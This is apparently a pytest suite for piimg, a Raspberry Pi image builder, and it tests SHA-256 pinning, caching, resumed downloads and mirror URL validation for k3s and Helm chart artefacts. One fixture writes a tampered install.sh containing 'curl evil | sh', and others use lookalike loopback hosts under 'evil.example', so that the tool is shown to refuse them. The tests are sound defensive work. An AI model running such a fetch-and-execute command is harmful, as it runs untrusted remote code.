"""Pinned cluster artefacts against a real HTTP server on 127.0.0.1 (tests/releaseserver.py)."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
from pathlib import Path

import pytest
import yaml

from piimg import versions
from piimg.errors import ConfigError, DownloadError
from piimg.fetch import artifacts
from piimg.fetch.cache import Cache
from piimg.fetch.download import RetryPolicy
from piimg.fetch.source import Fetcher
from piimg.spec import load as spec_load
from piimg.spec.model import Arch
from tests.conftest import TEST_KEY
from tests.httpserver import Fault
from tests.releaseserver import VERSION, Published, chart_tgz, path_of

FAST = RetryPolicy(attempts=3, first_delay=0.01, max_delay=0.02, connect_timeout=2, read_timeout=2)
KEY = TEST_KEY
SCHEMAS = Path(__file__).parent / "schemas"


def _spec(mirror: str, **cluster: object) -> object:
    doc = {"access": {"ssh_authorized_keys": [KEY]}, "cluster": {"artifact_mirror": mirror, **cluster}}
    return spec_load.loads(yaml.safe_dump(doc), env={})


def _fetcher(tmp_path: Path, *, offline: bool = False, verify: bool = False) -> Fetcher:
    return Fetcher(cache=Cache(tmp_path / "cache"), offline=offline, verify=verify, policy=FAST)


def _cached(tmp_path: Path) -> list[str]:
    root = tmp_path / "cache" / "artifacts"
    return sorted(p.name for p in root.rglob("*") if p.is_file() and p.name != "by-url.json") if root.exists() else []


def test_fetches_verifies_and_caches_everything(k3s_release: Published, tmp_path: Path) -> None:
    spec = _spec(k3s_release.mirror, airgap=True)
    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    rel = k3s_release.rel
    k = got.k3s
    assert (k.version, k.arch) == (VERSION, "arm64")
    assert k.install_sh.path.read_bytes() == rel.files[f"{versions.K3S_SOURCE_URL}/{VERSION}/install.sh"]
    assert k.binary.path.read_bytes() == rel.files[rel.url("k3s-arm64")]
    assert k.binary.sha256 == hashlib.sha256(k.binary.path.read_bytes()).hexdigest()
    assert k.airgap_images is not None and k.airgap_images.name == "k3s-airgap-images-arm64.tar.zst"
    # the default ingress (nginx) is pinned by content like MetalLB
    assert sorted(got.charts) == ["metallb", "nginx-ingress"]
    # every request went to the mirror, laid out as <host>/<path> of the upstream URL
    assert set(rel.requested()) == {
        f"/raw.githubusercontent.com/k3s-io/k3s/{VERSION}/install.sh",
        f"/github.com/k3s-io/k3s/releases/download/{VERSION}/sha256sum-arm64.txt",
        f"/github.com/k3s-io/k3s/releases/download/{VERSION}/k3s-arm64",
        f"/github.com/k3s-io/k3s/releases/download/{VERSION}/k3s-airgap-images-arm64.tar.zst",
        "/github.com/metallb/metallb/releases/download/metallb-chart-0.16.1/metallb-0.16.1.tgz",
        # the archive URL of helm.nginx.com/stable's index entry nginx-ingress 2.6.4
        # (nginxinc/helm-charts@37e48ed997f4086c3090ec128003f8576321a38e:stable/index.yaml, urls:)
        "/helm.nginx.com/stable/nginx-ingress-2.6.4.tgz",
    }
    # a second run (even offline) takes all from the cache: no request at all
    rel.srv.reset_log()
    again = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path, offline=True))  # type: ignore[arg-type]
    assert again == got and rel.requested() == []


def test_armhf_takes_the_arm_sums_file(k3s_release: Published, tmp_path: Path) -> None:
    spec = _spec(k3s_release.mirror)
    got = artifacts.obtain_cluster_artifacts(spec, "armhf", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert got.k3s.binary.name == "k3s-armhf" and got.k3s.airgap_images is None
    assert f"/github.com/k3s-io/k3s/releases/download/{VERSION}/sha256sum-arm.txt" in k3s_release.rel.requested()


def test_resumes_an_interrupted_binary_download(k3s_release: Published, tmp_path: Path) -> None:
    rel = k3s_release.rel
    path = path_of(rel.url("k3s-arm64"))
    rel.srv.faults[path] = Fault(drop_after=5000, times=1)
    got = artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert got.k3s.binary.path.read_bytes() == rel.files[rel.url("k3s-arm64")]
    ranges = [r.range for r in rel.srv.requests_for(path)]
    assert ranges[0] is None and ranges[-1] == "bytes=5000-", ranges


def test_binary_not_matching_the_sums_file_is_refused_and_not_cached(k3s_release: Published, tmp_path: Path) -> None:
    rel = k3s_release.rel
    rel.put(rel.url("k3s-arm64"), b"a different binary than the release's sha256sum file says")
    with pytest.raises(DownloadError, match=r"k3s-arm64: SHA-256 mismatch: expected [0-9a-f]{64} \(sha256sum-arm64.txt"):
        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert "k3s-arm64" not in _cached(tmp_path)
    assert not list((tmp_path / "cache" / "downloads").glob("*k3s-arm64*")), "the bad download was left behind"


def test_install_sh_not_matching_the_pin_is_refused(k3s_release: Published, tmp_path: Path) -> None:
    rel = k3s_release.rel
    rel.put(f"{versions.K3S_SOURCE_URL}/{VERSION}/install.sh", b"#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(DownloadError, match=r"install.sh: SHA-256 mismatch.*K3S_INSTALL_SH_SHA256"):
        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert _cached(tmp_path) == []


@pytest.mark.parametrize(
    ("chart", "file"),
    [("metallb", "metallb-0.16.1.tgz"), ("nginx-ingress", "nginx-ingress-2.6.4.tgz")],
)
def test_tampered_chart_is_refused(k3s_release: Published, tmp_path: Path, chart: str, file: str) -> None:
    rel = k3s_release.rel
    pinned = k3s_release.charts[chart]
    # a real chart archive, just not the pinned one (another version's bytes)
    rel.put(pinned.url, chart_tgz(pinned.name, "0.0.1"))
    with pytest.raises(DownloadError, match=rf"{file}: SHA-256 mismatch: expected {pinned.sha256} .*nothing was cached"):
        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert file not in _cached(tmp_path)
    assert not list((tmp_path / "cache" / "downloads").glob(f"*{file}*")), "the bad download was left behind"


def test_a_release_without_the_architecture_is_refused(k3s_release: Published, tmp_path: Path) -> None:
    rel = k3s_release.rel
    sums = rel.url("sha256sum-arm.txt")
    rel.put(sums, b"".join(line + b"\n" for line in rel.files[sums].splitlines() if b"k3s-armhf" not in line))
    with pytest.raises(DownloadError, match=r"sha256sum-arm.txt of k3s .* lists no k3s-armhf"):
        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "armhf", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert "k3s-armhf" not in _cached(tmp_path)
    rel.drop(sums)
    with pytest.raises(DownloadError, match=r"has no sha256sum-arm.txt"):
        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "armhf", _fetcher(tmp_path / "other"))  # type: ignore[arg-type]


def test_offline_with_an_empty_cache_names_what_is_missing(k3s_release: Published, tmp_path: Path) -> None:
    with pytest.raises(DownloadError, match=r"offline: install.sh \(sha256 [0-9a-f]{64}\) is not in the cache"):
        artifacts.obtain_cluster_artifacts(_spec(k3s_release.mirror), "arm64", _fetcher(tmp_path, offline=True))  # type: ignore[arg-type]
    assert k3s_release.rel.requested() == []


def test_verify_replaces_a_corrupted_cache_entry(k3s_release: Published, tmp_path: Path) -> None:
    spec = _spec(k3s_release.mirror)
    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    got.k3s.binary.path.write_bytes(b"bit rot")
    k3s_release.rel.srv.reset_log()
    again = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path, verify=True))  # type: ignore[arg-type]
    assert again.k3s.binary.path.read_bytes() == k3s_release.rel.files[k3s_release.rel.url("k3s-arm64")]
    assert k3s_release.rel.requested() == [path_of(k3s_release.rel.url("k3s-arm64"))]


@pytest.mark.parametrize(("ingress", "chart"), [("nginx", "nginx-ingress"), ("ingress-nginx", "ingress-nginx")])
def test_chart_content_is_the_pinned_archive_and_fits_the_helmchart_schema(
    k3s_release: Published, tmp_path: Path, ingress: str, chart: str
) -> None:
    from piimg.manifests import render_addons

    spec = _spec(k3s_release.mirror, ingress=ingress)
    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    files = render_addons(spec, charts=got.charts)  # type: ignore[arg-type]
    from tests.manifests_helpers import validate_object  # the HelmChart CRD of k3s's helm-controller (tests/schemas)

    charts = [d for text in files.values() for d in yaml.safe_load_all(text) if d and d["kind"] == "HelmChart"]
    assert sorted(c["metadata"]["name"] for c in charts) == sorted([chart, "metallb"])
    for chart in charts:
        validate_object(chart)
        spec_ = chart["spec"]
        assert "version" not in spec_ and "repo" not in spec_ and "chart" not in spec_, "fetched by version at deploy time"
        data = base64.b64decode(spec_["chartContent"], validate=True)
        pin = k3s_release.charts[chart["metadata"]["name"]]
        assert hashlib.sha256(data).hexdigest() == pin.sha256
        with tarfile.open(fileobj=io.BytesIO(data)) as tar:
            meta = yaml.safe_load(tar.extractfile(f"{pin.name}/Chart.yaml").read())  # type: ignore[union-attr]
        assert (meta["name"], meta["version"]) == (pin.name, pin.version)


# -- spec and name rules -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("names", "arch"),
    [
        (("https://downloads.raspberrypi.com/raspios_lite_arm64/images/raspios_lite_arm64-2025-05-13/"
          "2025-05-13-raspios-bookworm-arm64-lite.img.xz",), "arm64"),
        (("https://downloads.raspberrypi.com/raspios_lite_armhf/images/raspios_lite_armhf-2025-05-13/"
          "2025-05-13-raspios-bookworm-armhf-lite.img.xz",), "armhf"),
        (("/tmp/x.img", "ubuntu-24.04-preinstalled-server-arm64+raspi.img.xz"), "arm64"),
    ],
)
def test_architecture_from_the_image_name(names: tuple[str, ...], arch: str) -> None:
    assert artifacts.image_arch(Arch.AUTO, *names)[0] == arch


def test_architecture_rules() -> None:
    assert artifacts.image_arch(Arch.ARMHF, "raspios-arm64.img") == ("armhf", "image.arch")  # image.arch wins
    with pytest.raises(ConfigError, match=r"image.arch: .*armel.* ARMv6 image: k3s publishes no ARMv6 build"):
        artifacts.image_arch(Arch.AUTO, "/img/raspbian-armel.img")
    # a name that says nothing: arm64, said so (first boot refuses it on a 32-bit kernel)
    arch, how = artifacts.image_arch(Arch.AUTO, "/img/base.img")
    assert arch == "arm64" and how.startswith("assumed") and "image.arch" in how


def test_mirror_from_the_environment(k3s_release: Published) -> None:
    env = {spec_load.MIRROR_ENV: "https://other/x"}
    doc = {"access": {"ssh_authorized_keys": [KEY]}, "cluster": {"artifact_mirror": k3s_release.mirror}}
    assert spec_load.loads(yaml.safe_dump(doc), env=env).cluster.artifact_mirror == k3s_release.mirror  # the key wins
    plain = yaml.safe_dump({"access": {"ssh_authorized_keys": [KEY]}})
    assert spec_load.loads(plain, env={}).cluster.artifact_mirror is None
    assert spec_load.loads(plain, env={spec_load.MIRROR_ENV: " "}).cluster.artifact_mirror is None
    got = spec_load.loads(plain, env={spec_load.MIRROR_ENV: "https://m.lan/p/"}).cluster.artifact_mirror
    assert got == "https://m.lan/p"
    with pytest.raises(ConfigError, match=r"^\$PIIMG_ARTIFACT_MIRROR: .* only accepted for a loopback address") as exc:
        spec_load.loads(plain, env={spec_load.MIRROR_ENV: "http://m.lan/p"})
    assert exc.value.key == "$PIIMG_ARTIFACT_MIRROR"


@pytest.mark.parametrize("url", ["http://127.0.0.1.evil.example/m", "http://127.evil.example/m", "http://localhost.evil.example/m"])
def test_loopback_is_an_address_not_a_prefix(url: str) -> None:
    """A host name that starts like a loopback address is a name anyone can register; both the
    key and the environment variable refuse plain http:// to it."""
    plain = yaml.safe_dump({"access": {"ssh_authorized_keys": [KEY]}})
    keyed = yaml.safe_dump({"access": {"ssh_authorized_keys": [KEY]}, "cluster": {"artifact_mirror": url}})
    for text, env, key in ((keyed, {}, "cluster.artifact_mirror"), (plain, {spec_load.MIRROR_ENV: url}, "$PIIMG_ARTIFACT_MIRROR")):
        with pytest.raises(ConfigError, match="plain http:// is only accepted for a loopback address") as exc:
            spec_load.loads(text, env=env)
        assert exc.value.key == key


@pytest.mark.parametrize("url", ["http://127.0.0.1:8080/m", "http://127.3.2.1/m", "http://[::1]:80/m", "http://localhost/m"])
def test_loopback_mirror_accepted_from_both(url: str) -> None:
    plain = yaml.safe_dump({"access": {"ssh_authorized_keys": [KEY]}})
    keyed = yaml.safe_dump({"access": {"ssh_authorized_keys": [KEY]}, "cluster": {"artifact_mirror": url}})
    assert spec_load.loads(keyed, env={}).cluster.artifact_mirror == url
    assert spec_load.loads(plain, env={spec_load.MIRROR_ENV: url}).cluster.artifact_mirror == url


def test_channel_unpinned_version_and_metallb_refused_before_download(k3s_release: Published) -> None:
    with pytest.raises(ConfigError, match=r"cluster.k3s_version: 'stable' is a channel"):
        artifacts.check_pins(_spec(k3s_release.mirror, k3s_version="stable"))  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=r"cluster.k3s_install_sha256: .* v1.30.0\+k3s1 needs its SHA-256"):
        artifacts.check_pins(_spec(k3s_release.mirror, k3s_version="v1.30.0+k3s1"))  # type: ignore[arg-type]
    artifacts.check_pins(_spec(k3s_release.mirror, k3s_version="v1.30.0+k3s1", k3s_install_sha256="a" * 64))  # type: ignore[arg-type]
    # every published MetalLB chart is pinned (digests of metallb's index.yaml); a future one is not
    artifacts.check_pins(_spec(k3s_release.mirror, metallb_version="v0.15.2"))  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=r"cluster.metallb_version: .* not v0.17.0"):
        artifacts.check_pins(_spec(k3s_release.mirror, metallb_version="v0.17.0"))  # type: ignore[arg-type]
    assert k3s_release.rel.requested() == []


def test_user_pinned_install_script_for_another_version(k3s_release: Published, tmp_path: Path) -> None:
    from tests.releaseserver import publish

    pins = publish(k3s_release.rel, "v1.30.0+k3s1")
    spec = _spec(k3s_release.mirror, k3s_version="v1.30.0+k3s1", k3s_install_sha256=pins["install.sh"].upper())
    got = artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert got.k3s.version == "v1.30.0+k3s1"


def test_a_chart_needing_a_newer_kubernetes_is_refused(k3s_release: Published, tmp_path: Path) -> None:
    """NGINX Ingress Controller 2.6.4 says kubeVersion '>= 1.25.0-0': a k3s of Kubernetes 1.24 cannot take it."""
    from tests.releaseserver import publish

    pins = publish(k3s_release.rel, "v1.24.17+k3s1")
    spec = _spec(k3s_release.mirror, k3s_version="v1.24.17+k3s1", k3s_install_sha256=pins["install.sh"])
    with pytest.raises(ConfigError, match=r"cluster.k3s_version: k3s v1.24.17\+k3s1 is Kubernetes 1.24.17, but chart "
                                          r"nginx-ingress 2.6.4 needs Kubernetes >= 1.25.0-0"):
        artifacts.obtain_cluster_artifacts(spec, "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    # ingress-nginx (>=1.21.0-0) and MetalLB (>= 1.19.0-0) are fine there
    artifacts.obtain_cluster_artifacts(_spec(k3s_release.mirror, k3s_version="v1.24.17+k3s1",  # type: ignore[arg-type]
                                             k3s_install_sha256=pins["install.sh"], ingress="ingress-nginx"), "arm64",
                                       _fetcher(tmp_path))


@pytest.mark.parametrize(
    ("constraint", "allowed"),
    [
        # the pinned charts' own (tests/releaseserver.py KUBE_VERSIONS cites them)
        (">= 1.25.0-0", True), (">=1.21.0-0", True), (">= 1.19.0-0", True),
        # Masterminds/semver forms Helm reads: AND by comma or space, OR by ||, missing parts 0
        (">=1.20, <1.37", True), (">=1.20 <1.36", False), ("<1.36", False), ("1.36.3", True), ("!=1.36.3", False),
        (">= 1.37.0-0 || <1.20", False), (">= 1.37.0-0 || >=1.30", True),
        # a pre-release bound sorts just below its release
        (">1.36.3-0", True), ("<1.36.3-0", False), ("=1.36.3-0", False),
        # ranges piimg does not evaluate: not judged
        ("~1.36", None), ("^1.30", None), ("1.36.x", None), ("1.30 - 1.40", None), ("", None),
    ],
)
def test_kube_version_constraints(constraint: str, allowed: bool | None) -> None:
    assert artifacts.kube_version_allows(constraint, (1, 36, 3)) is allowed


def test_kube_version_not_understood_is_a_warning_and_a_broken_archive_an_error(tmp_path: Path) -> None:
    from tests.releaseserver import chart_tgz

    def archive(data: bytes) -> artifacts.ChartArchive:
        path = tmp_path / "x.tgz"
        path.write_bytes(data)
        pin = versions.ChartPin("nginx-ingress", "2.6.4", "https://helm.nginx.com/stable/nginx-ingress-2.6.4.tgz",
                                hashlib.sha256(data).hexdigest(), "test")
        return artifacts.ChartArchive(pin, artifacts.CachedFile(path.name, path, pin.sha256, pin.url))

    warned: list[str] = []
    artifacts.check_kube_version(archive(chart_tgz("nginx-ingress", "2.6.4", "~1.25")), VERSION, warned.append)
    assert warned == ["chart nginx-ingress 2.6.4: kubeVersion '~1.25' not checked against Kubernetes 1.36.3"]
    artifacts.check_kube_version(archive(chart_tgz("nginx-ingress", "2.6.4")), VERSION, warned.append)  # none set
    assert len(warned) == 1
    with pytest.raises(DownloadError, match=r"not a Helm chart archive with nginx-ingress/Chart.yaml"):
        artifacts.check_kube_version(archive(chart_tgz("metallb", "0.16.1")), VERSION, warned.append)
    with pytest.raises(DownloadError, match=r"not a Helm chart archive"):
        artifacts.check_kube_version(archive(b"not gzip"), VERSION, warned.append)


def test_mirror_url_layout() -> None:
    url = f"{versions.K3S_RELEASES_URL}/{VERSION}/k3s-arm64"
    assert artifacts.mirrored(url, None) == url
    assert artifacts.mirrored(url, "https://m.lan/piimg/") == (
        f"https://m.lan/piimg/github.com/k3s-io/k3s/releases/download/{VERSION}/k3s-arm64"
    )


@pytest.mark.parametrize(
    ("value", "message"),
    [
        ("ftp://m.lan/x", "is not an http(s) URL"),
        ("https://", "is not an http(s) URL"),
        ("http://mirror.lan/piimg", "plain http:// is only accepted for a loopback address"),
        ("https://m.lan/x?token=1", "a base URL has no ?query"),
        (12, "is not an http(s) URL"),
    ],
)
def test_artifact_mirror_validation(value: object, message: str) -> None:
    doc = {"access": {"ssh_authorized_keys": [KEY]}, "cluster": {"artifact_mirror": value}}
    with pytest.raises(ConfigError) as exc:
        spec_load.loads(yaml.safe_dump(doc), env={})
    assert exc.value.key == "cluster.artifact_mirror" and message in exc.value.message


def test_spec_keys_parse() -> None:
    # armhf needs an ingress with 32-bit images (spec rule _component_architectures): traefik
    doc = {"access": {"ssh_authorized_keys": [KEY]}, "image": {"arch": "armhf"},
           "cluster": {"ingress": "traefik", "disable": ["servicelb"], "artifact_mirror": "http://127.0.0.1:8080/m/", "airgap": True, "k3s_install_sha256": "B" * 64}}
    spec = spec_load.loads(yaml.safe_dump(doc), env={})
    assert spec.image.arch is Arch.ARMHF and spec.cluster.airgap is True
    assert spec.cluster.artifact_mirror == "http://127.0.0.1:8080/m" and spec.cluster.k3s_install_sha256 == "b" * 64
    for key, bad in (("image", {"arch": "armv6"}), ("cluster", {"airgap": "yes"}), ("cluster", {"k3s_install_sha256": "xyz"})):
        with pytest.raises(ConfigError) as exc:
            spec_load.loads(yaml.safe_dump({"access": {"ssh_authorized_keys": [KEY]}, key: bad}), env={})
        assert exc.value.key == f"{key}.{next(iter(bad))}"


def test_a_download_the_server_keeps_cutting_off_says_what_to_do_offline(k3s_release: Published,
                                                                         tmp_path: Path) -> None:
    # usability audit S12: no answer at all is what being offline looks like; the hint says how to do without
    from piimg.errors import Unreachable

    rel = k3s_release.rel
    rel.srv.faults[path_of(rel.url("k3s-arm64"))] = Fault(drop_after=0, times=-1)
    with pytest.raises(Unreachable) as err:
        artifacts.obtain_cluster_artifacts(_spec(rel.mirror), "arm64", _fetcher(tmp_path))  # type: ignore[arg-type]
    assert "connection closed mid-file (0 bytes read" in err.value.message
    assert err.value.hint == ("offline? run piimg fetch once with network access (build then needs none), "
                              "or set cluster.artifact_mirror to a mirror you can reach")
